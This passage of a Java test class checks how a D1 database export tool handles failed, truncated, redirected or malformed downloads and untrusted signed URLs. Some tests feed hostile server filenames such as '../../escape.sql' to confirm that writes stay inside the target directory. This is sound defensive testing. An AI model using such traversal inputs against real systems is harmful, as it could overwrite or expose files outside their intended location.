        Path out = Files.writeString(dir.resolve("out.sql"), "previous dump");

        assertThatThrownBy(() -> export(retriesOff(), ExportRequest.builder().destination(out)))
                .isInstanceOfSatisfying(DownloadFailedException.class, e -> {
                    assertThat(e.summary()).isEqualTo("Download of the dump from http://localhost failed after 1"
                            + " attempt (not retried: download-retries=0): HTTP " + status + " (SlowDown); nothing was"
                            + " written");
                    assertThat(e.details().httpStatus()).hasValue(status);
                    assertThat(e.details().hint()).isEmpty();
                });
        assertThat(api.downloads()).hasSize(1);
        assertThat(events.of(ExportEvent.Retry.class)).isEmpty();
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
    }

    @Test
    void aBrokenConnectionWithRetriesOffReadsAsATransientStatusDoes() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
        Path out = Files.writeString(dir.resolve("out.sql"), "previous dump");

        assertThatThrownBy(() -> export(retriesOff(), ExportRequest.builder().destination(out)))
                .isInstanceOfSatisfying(DownloadFailedException.class, e -> assertThat(e.summary())
                        .startsWith("Download of the dump from http://localhost failed after 1 attempt (not retried:"
                                + " download-retries=0): ")
                        .endsWith("; nothing was written").doesNotContain("refused").doesNotContain("sig-SECRET"));
        assertThat(events.of(ExportEvent.Retry.class)).isEmpty();
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
    }

    @Test
    void aTransientStatusThatOutlastsTheRetriesFailsAfterThemAndIsNotCalledARefusal() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503).withBody("<Error><Code>SlowDown</Code></Error>"));
        Path out = Files.writeString(dir.resolve("out.sql"), "previous dump");

        assertThatThrownBy(() -> export(out)).isInstanceOfSatisfying(DownloadFailedException.class, e -> assertThat(
                e.summary()).isEqualTo("Download of the dump from http://localhost failed after 3 attempts: HTTP 503"
                        + " (SlowDown); nothing was written"));
        assertThat(api.downloads()).hasSize(3);
        assertThat(events.of(ExportEvent.Retry.class)).hasSize(2);
        assertThat(Files.readString(out)).isEqualTo("previous dump");
    }

    /**
     * What README quotes for a transient status that outlasts the retries, with download-retries left at its
     * default (3): the first attempt and three retries, so four attempts.
     */
    @Test
    void aTransientStatusThatOutlastsTheDefaultRetriesFailsAfterFourAttempts() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(503).withBody("<Error><Code>SlowDown</Code></Error>"));
        Path out = Files.writeString(dir.resolve("out.sql"), "previous dump");
        // The stub's options but for download-retries, which stays at its default.
        ExportOptions defaultRetries = ExportOptions.parse(api.url()).mutate()
                .secret("api-token", CloudflareStub.TOKEN)
                .option("base-url", api.baseUrl())
                .option("min-poll-interval", "5ms")
                .option("max-poll-interval", "40ms")
                .option("retry-base-delay", "10ms")
                .option("retry-max-delay", "50ms")
                .build();

        assertThatThrownBy(() -> export(defaultRetries, ExportRequest.builder().destination(out)))
                .isInstanceOfSatisfying(DownloadFailedException.class, e -> assertThat(e.summary()).isEqualTo(
                        "Download of the dump from http://localhost failed after 4 attempts: HTTP 503 (SlowDown);"
                                + " nothing was written"));
        assertThat(api.downloads()).hasSize(4);
        assertThat(Files.readString(out)).isEqualTo("previous dump");
    }

    @ParameterizedTest(name = "HTTP {0}")
    @ValueSource(ints = {403, 404})
    void aPermanentRefusalWithRetriesOffStillReadsAsRefused(int status) throws Exception {
        // 403: what an object store answers for a signature past its expiry; 404: no such object.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(status).withHeader("Content-Type", "application/xml")
                .withBody(status == 403 ? XML_403 : "<Error><Code>NoSuchKey</Code></Error>"));
        Path out = Files.writeString(dir.resolve("out.sql"), "previous dump");

        assertThatThrownBy(() -> export(retriesOff(), ExportRequest.builder().destination(out)))
                .isInstanceOfSatisfying(DownloadFailedException.class, e -> {
                    assertThat(e.summary()).isEqualTo("Download of the dump from http://localhost was refused:"
                            + " HTTP " + status + (status == 403 ? " (AccessDenied)" : " (NoSuchKey)")
                            + "; nothing was written");
                    assertThat(e.details().hint()).hasValueSatisfying(h -> assertThat(h).contains("one hour"));
                });
        assertThat(api.downloads()).hasSize(1);
        assertThat(Files.readString(out)).isEqualTo("previous dump");
    }

    @Test
    void aCallersStreamWhoseFlushFailsIsADestinationErrorThatDoesNotDenyWhatTheStreamGot() throws Exception {
        // The commit's flush is the one a caller's stream gets in a download, after it was given the whole dump: a
        // failure there must not read as "nothing was written". The stream is the caller's, so it is never closed.
        api.stubCalls(api.complete());
        api.stubDump();
        ByteArrayOutputStream got = new ByteArrayOutputStream();
        AtomicBoolean closed = new AtomicBoolean();
        OutputStream callers = new FilterOutputStream(got) {
            @Override
            public void write(byte[] b, int off, int len) {
                got.write(b, off, len);
            }

            @Override
            public void flush() throws IOException {
                throw new IOException("No space left on device");
            }

            @Override
            public void close() {
                closed.set(true);
            }
        };

        assertThatThrownBy(() -> export(api.options().build(), ExportRequest.builder().destination(callers)))
                .isInstanceOfSatisfying(DestinationException.class, e -> assertThat(e.summary())
                        .isEqualTo("Cannot write the output stream: No space left on device"));
        assertThat(got.toString(StandardCharsets.UTF_8)).isEqualTo(CloudflareStub.DUMP);
        assertThat(closed).isFalse();
        assertThat(api.downloads()).as("the output's failure is not retried").hasSize(1);
    }

    /** This stub's options with the download's retries off. */
    private ExportOptions retriesOff() {
        return api.options().option("download-retries", "0").build();
    }

    @ParameterizedTest(name = "HTTP {0}")
    @ValueSource(ints = {201, 203, 204, 205})
    void aSuccessOtherThan200IsNeverWrittenAsTheDump(int status) throws Exception {
        // 204 and 205 carry no body at all: taken as a success they would replace a backup with an empty file.
        api.stubCalls(api.complete());
        api.stubDownloads(status == 204 || status == 205
                ? aResponse().withStatus(status)
                : aResponse().withStatus(status).withBody("not the dump"));
        Path out = dir.resolve("out.sql");
        Files.writeString(out, "previous dump");

        assertThatThrownBy(() -> export(out)).isInstanceOfSatisfying(DownloadFailedException.class, e -> {
            assertThat(e.getMessage()).contains("HTTP " + status).doesNotContain("sig-SECRET");
            assertThat(e.details().httpStatus()).hasValue(status);
        });
        assertThat(api.downloads()).hasSize(1);
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
    }

    @Test
    void aTruncatedDownloadIsRetriedThenFails() throws Exception {
        // WireMock's Jetty would fix a lying Content-Length, so the object store here is the JDK's own server.
        HttpServer store = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        int[] hits = new int[1];
        store.createContext("/dump.sql", exchange -> {
            synchronized (hits) {
                hits[0]++;
            }
            exchange.sendResponseHeaders(200, 1000);
            try (OutputStream body = exchange.getResponseBody()) {
                body.write("PRAGMA defer_foreign_keys=TRUE;\nCREATE TABLE t(a);\n".getBytes(StandardCharsets.UTF_8));
                body.flush();
                // Failing the handler makes the server drop the connection short of the Content-Length.
                throw new java.io.IOException("cut short on purpose");
            } finally {
                exchange.close();
            }
        });
        store.start();
        try {
            String url = "http://127.0.0.1:" + store.getAddress().getPort() + "/dump.sql";
            api.stubCalls(CloudflareStub.completeWith("t.sql", url));
            Path out = dir.resolve("out.sql");

            assertThatThrownBy(() -> export(out)).isInstanceOf(DownloadFailedException.class)
                    .hasMessageContaining("after 3 attempts");
            assertThat(hits[0]).isEqualTo(3);
            assertThat(out).doesNotExist();
            assertNoTempFiles();
        } finally {
            store.stop(0);
        }
    }

    @Test
    void aTruncatedDownloadIsRetriedAndTheCompleteOneKept() throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withHeader("Content-Length", "500")
                .withFault(Fault.RANDOM_DATA_THEN_CLOSE), CloudflareStub.dump());

        export(dir.resolve("out.sql"));

        assertThat(Files.readString(dir.resolve("out.sql"))).isEqualTo(CloudflareStub.DUMP);
        assertThat(api.downloads()).hasSize(2);
    }

    @Test
    void aServerFilenameWithDotDotStaysInsideTheDirectory() throws Exception {
        api.stubCalls(CloudflareStub.completeWith("../../escape.sql", api.signedUrl()));
        api.stubDump();
        Path target = Files.createDirectory(dir.resolve("exports"));

        ExportResult result = export(target);

        assertThat(result.path()).contains(target.resolve("escape.sql").toAbsolutePath());
        assertThat(Files.readString(target.resolve("escape.sql"))).isEqualTo(CloudflareStub.DUMP);
        assertThat(dir.resolve("escape.sql")).doesNotExist();
        assertThat(dir.getParent().resolve("escape.sql")).doesNotExist();
        assertThat(result.filename()).isEqualTo("escape.sql");
    }

    @Test
    void aServerFilenameCannotPickAnUnrelatedFileInTheDirectory() throws Exception {
        Path notes = Files.writeString(dir.resolve("notes.txt"), "precious");
        api.stubCalls(CloudflareStub.completeWith("notes.txt", api.signedUrl()));
        api.stubDump();

        ExportResult result = export(dir);

        assertThat(Files.readString(notes)).isEqualTo("precious");
        assertThat(result.path()).contains(dir.resolve("notes.txt.sql").toAbsolutePath());
        assertThat(Files.readString(dir.resolve("notes.txt.sql"))).isEqualTo(CloudflareStub.DUMP);
    }

    @Test
    void aSignedUrlWithAPortOutOfRangeIsAProtocolViolationNamingIt() {
        api.stubCalls(CloudflareStub.completeWith("x.sql", "https://127.0.0.1:99999/r2/x.sql?sig=SECRET"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(ProtocolViolationException.class)
                .hasMessageContaining("port 99999 is out of range (1-65535)").hasMessageNotContaining("SECRET");
        assertThat(dir.resolve("out.sql")).doesNotExist();
    }

    @Test
    void aFileDestinationIgnoresTheServerFilename() throws Exception {
        api.stubCalls(CloudflareStub.completeWith("../../escape.sql", api.signedUrl()));
        api.stubDump();

        ExportResult result = export(dir.resolve("mine.sql"));

        assertThat(result.path()).contains(dir.resolve("mine.sql").toAbsolutePath());
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("mine.sql");
        }
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>",
        "<?xml version=\"1.0\"?><Error><Code>AccessDenied</Code></Error>", "PRAGMA defer_foreign_keys=TRUE", "P",
        "PRAGMA defer_foreign_keys=FALSE;\nCREATE TABLE t(a);"})
    void aSuccessWhoseBodyIsNotADumpNeverReplacesTheFileNorReachesAStream(String body) throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withHeader("Content-Type", "text/html; charset=utf-8")
                .withBody(body));
        Path out = dir.resolve("out.sql");
        Files.writeString(out, "previous dump");
        ByteArrayOutputStream sink = new ByteArrayOutputStream();

        assertThatThrownBy(() -> export(out)).isInstanceOfSatisfying(DownloadFailedException.class, e -> {
            assertThat(e.getMessage()).contains("(HTTP 200, text/html; charset=utf-8) is not a D1 dump, which always"
                    + " opens with PRAGMA defer_foreign_keys=TRUE; but this one with '" + body.substring(0,
                            Math.min(body.length(), 31)).replace('\n', '?') + "'; nothing was written");
            assertThat(e.details().hint()).hasValueSatisfying(h -> assertThat(h).contains("previous file is kept"));
        });
        assertThatThrownBy(() -> export(api.options().build(), ExportRequest.builder().destination(sink)))
                .isInstanceOf(DownloadFailedException.class);

        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
        assertThat(sink.size()).as("not one byte of it on the stream").isZero();
        assertThat(api.downloads()).as("asking again gets the same answer: no retry").hasSize(2);
    }

    @Test
    void aWholeAnswerShorterThanTheLineEveryDumpOpensWithIsNotADumpEvenWithItsLengthGiven() throws Exception {
        // "PRAGMA" is how a dump starts, but with Content-Length: 6 it is all there is: not a dump cut short (which
        // would be kept to resume after) but a whole answer that is no dump.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withHeader("Content-Type", "application/sql")
                .withHeader("Content-Length", "6").withBody("PRAGMA"));
        Path out = Files.writeString(dir.resolve("out.sql"), "previous dump");

        assertThatThrownBy(() -> export(out)).isInstanceOfSatisfying(DownloadFailedException.class, e -> assertThat(
                e.getMessage()).contains("(HTTP 200, application/sql) is not a D1 dump").contains("but this one with"
                        + " 'PRAGMA'; nothing was written"));
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertThat(api.downloads()).hasSize(1);
        assertNoTempFiles();
    }

    @ParameterizedTest(name = "HTTP {0}")
    @ValueSource(ints = {300, 301, 302, 307, 308})
    void aRedirectedDownloadIsNotFollowedAndSaysWhereItPointed(int status) throws Exception {
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(status)
                .withHeader("Location", "https://elsewhere.example/dump.sql?X-Amz-Signature=sig-SECRET"));
        Path out = dir.resolve("out.sql");
        Files.writeString(out, "previous dump");

        assertThatThrownBy(() -> export(out)).isInstanceOfSatisfying(DownloadFailedException.class, e -> {
            assertThat(e.getMessage()).contains("HTTP " + status + ", a redirect to https://elsewhere.example, which a"
                    + " download never follows; nothing was written").doesNotContain("sig-SECRET");
            assertThat(e.details().hint()).hasValueSatisfying(h -> assertThat(h).contains("redirected"));
        });
        assertThat(api.downloads()).hasSize(1);
        assertThat(wm.getAllServeEvents()).noneMatch(event -> event.getRequest().getUrl().contains("elsewhere"));
        assertThat(Files.readString(out)).isEqualTo("previous dump");
        assertNoTempFiles();
    }

    @Test
    void anErrorPageSentInSmallPiecesIsStillShownByItsFirstBytes() {
        String page = "<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>";
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withHeader("Content-Type", "text/html").withBody(page)
                .withChunkedDribbleDelay(page.length(), 300));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(DownloadFailedException.class)
                .hasMessageContaining("but this one with '" + page.substring(0, 31) + "'");
        assertThat(dir.resolve("out.sql")).doesNotExist();
    }

    @Test
    void theSmallestDumpIsItsOpeningLineAlone() throws Exception {
        // What D1 gives for a table filter that matches nothing: 31 bytes.
        api.stubCalls(api.complete());
        api.stubDownloads(aResponse().withStatus(200).withBody("PRAGMA defer_foreign_keys=TRUE;"));

        ExportResult result = export(dir.resolve("out.sql"));

        assertThat(result.bytes()).isEqualTo(31);
        assertThat(dir.resolve("out.sql")).hasContent("PRAGMA defer_foreign_keys=TRUE;");
    }

    @Test
    void aStreamDestinationReceivesTheDump() {
        api.stubCalls(api.complete());
        api.stubDump();
        ByteArrayOutputStream sink = new ByteArrayOutputStream();

        ExportResult result = export(api.options().build(), ExportRequest.builder().destination(sink));

        assertThat(sink.toString(StandardCharsets.UTF_8)).isEqualTo(CloudflareStub.DUMP);
        assertThat(result.path()).isEmpty();
    }

    @Test
    void aPlainHttpSignedUrlOffLoopbackIsRefusedWithoutARequest() {
        api.stubCalls(CloudflareStub.completeWith("x.sql", "http://downloads.example.com/x.sql?sig=SECRET"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(ProtocolViolationException.class)
                .hasMessageContaining("plain http").hasMessageNotContaining("SECRET");
        assertThat(dir.resolve("out.sql")).doesNotExist();
    }

    /** A host URI cannot read was shown as 'https://null'; the reason says what is wrong, the authority stays out. */
    @Test
    void aSignedUrlWhoseHostCannotBeReadIsNotShownAsNull() {
        api.stubCalls(CloudflareStub.completeWith("x.sql", "https://r2.example.com:99999999999/x.sql?sig=SECRET"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(ProtocolViolationException.class)
                .hasMessage("Cloudflare API gave a signed URL (https://...) that is refused: port 99999999999 is out of"
                        + " range (1-65535)");
        assertThat(dir.resolve("out.sql")).doesNotExist();
    }

    @Test
    void aSignedUrlThatIsNotAUrlIsAProtocolViolation() {
        api.stubCalls(CloudflareStub.completeWith("x.sql", "not a url at all"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(ProtocolViolationException.class)
                .hasMessageNotContaining("null");
        api.stubCalls(CloudflareStub.completeWith("x.sql", "/r2/x.sql?sig=SECRET"));

        assertThatThrownBy(() -> export(dir.resolve("out.sql"))).isInstanceOf(ProtocolViolationException.class)
                .hasMessage("Cloudflare API gave a signed URL that is refused: it has no host");
    }

    private void assertNoTempFiles() throws Exception {
        try (Stream<Path> files = Files.walk(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".part"));
        }
    }
}
